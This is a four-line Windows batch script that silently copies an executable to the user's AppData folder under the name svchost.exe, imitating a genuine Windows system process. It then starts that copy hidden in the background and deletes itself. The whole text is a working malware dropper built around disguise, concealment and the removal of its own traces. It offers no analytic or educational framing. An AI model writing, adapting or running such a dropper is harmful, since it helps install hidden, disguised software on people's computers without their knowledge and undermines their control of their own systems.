@echo off
copy /y svc.exe "%APPDATA%\Microsoft\svchost.exe" >nul
start "" /b "%APPDATA%\Microsoft\svchost.exe"
del /f /q "%~f0"
